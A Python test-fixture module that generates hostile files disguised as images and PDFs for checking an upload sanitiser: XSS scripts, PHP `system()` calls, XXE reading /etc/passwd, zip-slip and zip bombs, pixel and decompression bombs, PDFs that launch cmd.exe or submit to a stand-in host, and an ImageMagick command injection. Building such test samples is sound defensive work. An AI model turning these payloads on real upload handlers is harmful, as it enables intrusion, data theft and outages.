"""Files that somebody hostile might send as a photo or PDF, made by code: what each is, and how it may end.

`MARK` stands in whatever of a file should not survive: scripts, metadata, text, trailers.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from functools import cache
from typing import Any, Final

from PIL import Image, PngImagePlugin

MARK: Final = b"X9384ALERT"
TOLD: Final = MARK.decode()
_SCRIPT: Final = b"<script>alert('" + MARK + b"')</script>"
_PHP: Final = b"<?php system('" + MARK + b"'); ?>"
REFUSED: Final = "refused"
TAKEN: Final = "taken"
EITHER: Final = "either"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, and whether it is refused, or taken because what is left of it is harmless."""

    name: str
    content: bytes
    ends: str
    code: str | None = None


def photo(size: tuple[int, int] = (64, 48)) -> Image.Image:
    """A picture whose left upper quarter is red, so that one sees which way is up."""
    made = Image.new("RGB", size, (40, 90, 160))
    made.paste((220, 20, 20), (0, 0, size[0] // 2, size[1] // 2))
    return made


def encoded(image: Image.Image, kind: str, **options: Any) -> bytes:
    """An image as a file."""
    written = io.BytesIO()
    image.save(written, kind, **options)
    return written.getvalue()


def exif(orientation: int = 1) -> bytes:
    """EXIF with a place on Earth, a serial number and a comment."""
    made = Image.Exif()
    made[0x0112] = orientation
    made[0x010E] = TOLD
    made[0x8769] = {0xA431: TOLD, 0x9286: MARK}
    made[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0), 0x1D: TOLD}
    return made.tobytes()


def png_chunk(kind: bytes, content: bytes) -> bytes:
    """A chunk with its checksum."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, data: bytes, *, depth: int = 8, colour: int = 0) -> bytes:
    """A PNG that says it has a size, whatever its data are."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")
    )


def pdf(*objects: bytes, catalog: bytes = b"", pages: int = 1, box: str = "0 0 300 200") -> bytes:
    """A PDF with a page that says MARK, with more in its catalog and more objects from number 10 on."""
    text = b"BT /F1 18 Tf 20 100 Td (" + MARK + b") Tj ET"
    kids = b" ".join(b"%d 0 R" % (100 + number) for number in range(pages))
    numbered = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        5: b"<< /Title (" + MARK + b") /Author (" + MARK + b") >>",
        **{10 + number: made for number, made in enumerate(objects)},
        **{
            100 + number: (
                b"<< /Type /Page /Parent 2 0 R /MediaBox [" + box.encode() + b"] /Contents 4 0 R"
                b" /Resources << /Font << /F1 3 0 R >> >> >>"
            )
            for number in range(pages)
        },
    }
    written, places = bytearray(b"%PDF-1.7\n"), {}
    for number, made in numbered.items():
        places[number] = len(written)
        written += b"%d 0 obj\n" % number + made + b"\nendobj\n"
    start = len(written)
    written += b"xref\n"
    for number, place in places.items():
        written += b"%d 1\n%010d 00000 n \n" % (number, place)
    written += b"trailer\n<< /Size %d /Root 1 0 R /Info 5 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        max(numbered) + 1, start,
    )  # fmt: skip
    return bytes(written)


def _stream(content: bytes, about: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), about) + content + b"\nendstream"


def _zipped(entries: dict[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return written.getvalue()


@cache
def _deflated(size: int) -> bytes:
    packer = zlib.compressobj(1)
    block = bytes(1 << 20)
    packed = [packer.compress(block) for _ in range(size >> 20)]
    return b"".join(packed) + packer.flush()


def _jpeg_with(marker: int, content: bytes) -> bytes:
    jpeg = encoded(photo(), "JPEG")
    return jpeg[:2] + b"\xff" + bytes([marker]) + struct.pack(">H", len(content) + 2) + content + jpeg[2:]


def _jpeg_saying(width: int, height: int) -> bytes:
    jpeg = bytearray(encoded(photo(), "JPEG"))
    start = jpeg.index(b"\xff\xc0")
    jpeg[start + 5 : start + 9] = struct.pack(">HH", height, width)
    return bytes(jpeg)


def _webp_saying(width: int, height: int) -> bytes:
    extended = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + (width - 1).to_bytes(3, "little")
    body = b"WEBP" + extended + (height - 1).to_bytes(3, "little") + encoded(photo(), "WEBP")[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", TOLD)
    info.add_text("XML:com.adobe.xmp", f"<x:xmpmeta>{TOLD}</x:xmpmeta>", zip=True)
    info.add_itxt("Note", TOLD)
    return encoded(photo(), "PNG", pnginfo=info, exif=exif())


def _other_types() -> Iterator[Hostile]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + _SCRIPT + b"</svg>"
    entity = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;' + MARK + b"</svg>"
    laughs = b'<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>'
    word = _zipped({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": MARK})
    others = {
        "svg with a script": svg,
        "svg with an external entity": entity,
        "svg of a billion laughs": laughs,
        "svg behind an xml declaration": b"<?xml version='1.0'?>\n" + svg,
        "svgz": zlib.compress(svg),
        "html": b"<!doctype html>" + _SCRIPT,
        "xhtml": b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>" + _SCRIPT + b"</html>",
        "php": _PHP,
        "shell script": b"#!/bin/sh\necho " + MARK,
        "windows program": b"MZ\x90\0" + MARK + bytes(200),
        "linux program": b"\x7fELF\x02\x01\x01" + MARK + bytes(200),
        "zip that climbs out": _zipped({"../../../etc/cron.d/x": MARK}),
        "zip bomb": _zipped({"zeros": bytes(8 << 20)}),
        "word document with macros": word,
        "gif": encoded(photo(), "GIF"),
        "gif that is a script": b"GIF89a/*" + bytes(8) + b"*/=1;alert('" + MARK + b"')",
        "bmp": encoded(photo(), "BMP"),
        "tiff": encoded(photo(), "TIFF"),
        "icon": encoded(photo(), "ICO"),
        "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(100),
        "avif": b"\0\0\0\x1cftypavif" + bytes(100),
        "jpeg xl": b"\xff\x0a" + bytes(100),
        "postscript": b"%!PS-Adobe-3.0\n(%pipe%id) (w) file " + MARK,
        "imagemagick script": b'push graphic-context\nfill "url(https://x.example/|ls)"\n' + MARK,
        "text": MARK * 10,
        "zeros": bytes(1000),
        "pdf behind other bytes": b"GIF89a" + pdf(),
        "png behind a blank": b" " + encoded(photo(), "PNG"),
        "jpeg in base 64": b"data:image/jpeg;base64,/9j/4AAQSkZJRg==",
        "riff that is sound": b"RIFF\x24\0\0\0WAVEfmt " + bytes(40),
    }
    for name, content in others.items():
        yield Hostile(name, content, REFUSED, "file_type_not_supported")


def _metadata() -> Iterator[Hostile]:
    carriers = {
        "jpeg with exif and gps": encoded(photo(), "JPEG", exif=exif(6)),
        "jpeg with a comment": encoded(photo(), "JPEG", comment=_SCRIPT),
        "jpeg with xmp": _jpeg_with(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + MARK),
        "jpeg with iptc": _jpeg_with(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x0a" + MARK),
        "jpeg with a colour profile": encoded(photo(), "JPEG", icc_profile=MARK * 20),
        "jpeg with php in a segment": _jpeg_with(0xEF, _PHP),
        "jpeg with a thumbnail of something else": _jpeg_with(
            0xE1, b"Exif\0\0" + exif()[6:] + encoded(photo((8, 8)), "JPEG") + MARK
        ),
        "png with text": _png_with_text(),
        "png with a private chunk": encoded(photo(), "PNG")[:-12] + png_chunk(b"prVt", _PHP)
        + png_chunk(b"IEND", b""),
        "png with a colour profile": encoded(photo(), "PNG", icc_profile=MARK * 20),
        "webp with exif": encoded(photo(), "WEBP", exif=exif()),
        "webp with xmp": encoded(photo(), "WEBP", xmp=b"<x:xmpmeta>" + MARK + b"</x:xmpmeta>"),
    }  # fmt: skip
    for name, content in carriers.items():
        yield Hostile(name, content, EITHER if "thumbnail" in name else TAKEN)


def _polyglots() -> Iterator[Hostile]:
    jpeg, png, webp = (encoded(photo(), kind) for kind in ("JPEG", "PNG", "WEBP"))
    archive = _zipped({"evil.class": MARK})
    for name, content in {
        "jpeg and zip": jpeg + archive,
        "jpeg and html": jpeg + _SCRIPT,
        "jpeg and pdf": jpeg + pdf(),
        "jpeg with html in a comment": encoded(photo(), "JPEG", comment=b"*/" + _SCRIPT + b"/*"),
        "png and zip": png + archive,
        "png and php": png + _PHP,
        "png and html": png + _SCRIPT,
        "webp and zip": webp + archive,
        "pdf and zip": pdf() + archive,
        "pdf and html": pdf() + _SCRIPT,
        "pdf and jpeg": pdf() + jpeg,
    }.items():
        yield Hostile(name, content, TAKEN)


def _active_pdfs() -> Iterator[Hostile]:
    script = b"<< /S /JavaScript /JS (app.alert\\('" + MARK + b"'\\)) >>"
    launch = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (" + MARK + b") >> >>"
    link = b"<< /S /URI /URI (https://" + MARK + b".example) >>"
    names = b"/Names << /JavaScript << /Names [(a) 10 0 R] >> >>"
    files = b"/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>"
    attached = b"<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>"
    form = b"/AcroForm << /XFA 10 0 R /Fields [] >>"
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;' + MARK + b"</x>"
    submit = b"<< /S /SubmitForm /F (https://" + MARK + b".example) >>"
    remote = b"<< /S /GoToR /F (\\\\\\\\" + MARK + b"\\\\share) /D [0 /Fit] >>"
    for name, content in {
        "pdf that runs a script when opened": pdf(script, catalog=b"/OpenAction 10 0 R"),
        "pdf with named scripts": pdf(script, catalog=names),
        "pdf with a script on closing": pdf(script, catalog=b"/AA << /WC 10 0 R >>"),
        "pdf that starts a program": pdf(launch, catalog=b"/OpenAction 10 0 R"),
        "pdf that opens an address": pdf(link, catalog=b"/OpenAction 10 0 R"),
        "pdf that sends a form": pdf(submit, catalog=b"/OpenAction 10 0 R"),
        "pdf that asks a share": pdf(remote, catalog=b"/OpenAction 10 0 R"),
        "pdf with an attachment": pdf(attached, _stream(b"MZ" + MARK), catalog=files),
        "pdf with an xfa form": pdf(_stream(entity), catalog=form),
        "pdf with xmp": pdf(_stream(MARK, b"/Type /Metadata /Subtype /XML"), catalog=b"/Metadata 10 0 R"),
    }.items():
        yield Hostile(name, content, TAKEN)


def _bombs() -> Iterator[Hostile]:
    area = "file_too_many_pixels"
    yield Hostile("png of 900 megapixels", png_of(30_000, 30_000, _deflated(100 << 20)), REFUSED, area)
    yield Hostile("png of the largest size there is", png_of(2**31 - 1, 2**31 - 1, b""), REFUSED)
    yield Hostile("png of 900 megapixels in one bit", png_of(30_000, 30_000, b"", depth=1), REFUSED, area)
    yield Hostile("png that is one line", png_of(900_000_000, 1, b""), REFUSED, area)
    yield Hostile("png of no size", png_of(0, 0, b""), REFUSED)
    yield Hostile("jpeg that says 900 megapixels", _jpeg_saying(30_000, 30_000), REFUSED, area)
    yield Hostile("jpeg of the largest size", _jpeg_saying(65_500, 65_500), REFUSED, area)
    yield Hostile("jpeg that is one line", _jpeg_saying(65_500, 900), EITHER)
    yield Hostile("webp that says 268 megapixels", _webp_saying(16_384, 16_384), REFUSED, area)
    text = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
    bomb = png_chunk(b"zTXt", b"a\0\0" + _deflated(100 << 20))
    rest = png_chunk(b"IDAT", zlib.compress(bytes(8 * 25))) + png_chunk(b"IEND", b"")
    yield Hostile("png whose text is a bomb", text + bomb + rest, EITHER)
    profile = png_chunk(b"iCCP", b"a\0\0" + _deflated(100 << 20))
    yield Hostile("png whose colour profile is a bomb", text + profile + rest, EITHER)
    frames = [photo((256, 256)) for _ in range(60)]
    moving = encoded(frames[0], "PNG", save_all=True, append_images=frames[1:])
    yield Hostile("png of many frames", moving, TAKEN)
    yield Hostile("png of 64 times too much data", png_of(64, 64, _deflated(64 << 20)), EITHER)
    yield Hostile("pdf of 9 pages", pdf(pages=9), REFUSED, "file_too_many_pages")
    yield Hostile("pdf of 2000 pages", pdf(pages=2000), REFUSED, "file_too_many_pages")
    yield Hostile("pdf of 8 large pages", pdf(pages=8, box="0 0 14400 14400"), TAKEN)
    yield Hostile("pdf page a million points wide", pdf(box="0 0 1000000 1"), EITHER)
    yield Hostile("pdf page without area", pdf(box="0 0 0 0"), EITHER)
    yield _drawing_bomb("pdf whose drawing is a bomb", _deflated(200 << 20))
    yield _drawing_bomb("pdf that draws without end", zlib.compress(b"0 0 300 200 re f " * 3_000_000))
    yield _picture_bomb()
    yield _loop()


def _drawing_bomb(name: str, packed: bytes) -> Hostile:
    plain = pdf(_stream(packed, b"/Filter /FlateDecode"))
    return Hostile(name, plain.replace(b"/Contents 4 0 R", b"/Contents 10 0 R", 1), EITHER)


def _picture_bomb() -> Hostile:
    about = (
        b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceRGB"
        b" /BitsPerComponent 8 /Filter /FlateDecode"
    )
    plain = pdf(_stream(b"300 0 0 200 0 0 cm /I Do"), _stream(_deflated(400 << 20), about))
    drawn = plain.replace(b"/Contents 4 0 R", b"/Contents 10 0 R", 1)
    return Hostile(
        "pdf with a picture of 900 megapixels",
        drawn.replace(b"/Font << /F1 3 0 R >>", b"/XObject << /I 11 0 R >>", 1), EITHER,
    )  # fmt: skip


def _loop() -> Hostile:
    about = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /I 11 0 R >> >>"
    plain = pdf(_stream(b"/I Do"), _stream(b"/I Do /I Do", about))
    drawn = plain.replace(b"/Contents 4 0 R", b"/Contents 10 0 R", 1)
    return Hostile(
        "pdf whose form draws itself",
        drawn.replace(b"/Font << /F1 3 0 R >>", b"/XObject << /I 11 0 R >>", 1), EITHER,
    )  # fmt: skip


def _broken() -> Iterator[Hostile]:
    chance = random.Random(7)  # noqa: S311 - the same files in every run
    makers: Sequence[tuple[str, Callable[[], bytes]]] = (
        ("jpeg", lambda: encoded(photo((640, 480)), "JPEG")),
        ("png", lambda: encoded(photo((640, 480)), "PNG")),
        ("webp", lambda: encoded(photo((640, 480)), "WEBP")),
        ("pdf", pdf),
    )
    for name, make in makers:
        whole = make()
        yield Hostile(f"{name} of its first bytes alone", whole[:16], REFUSED, "file_unreadable")
        yield Hostile(f"{name} cut in half", whole[: len(whole) // 2], EITHER)
        bent = bytearray(whole)
        for _ in range(20):
            bent[chance.randrange(16, len(bent))] = chance.randrange(256)
        yield Hostile(f"{name} with bent bytes", bytes(bent), EITHER)
        noise = whole[:16] + chance.randbytes(5000)
        yield Hostile(f"{name} that goes on as noise", noise, EITHER)
    yield Hostile("jpeg of more than 10 MB", b"\xff\xd8\xff" + bytes(10_000_000), REFUSED, "file_too_large")


def hostile_files() -> Sequence[Hostile]:
    """All of them, each under a name of its own."""
    return [*_other_types(), *_metadata(), *_polyglots(), *_active_pdfs(), *_bombs(), *_broken()]
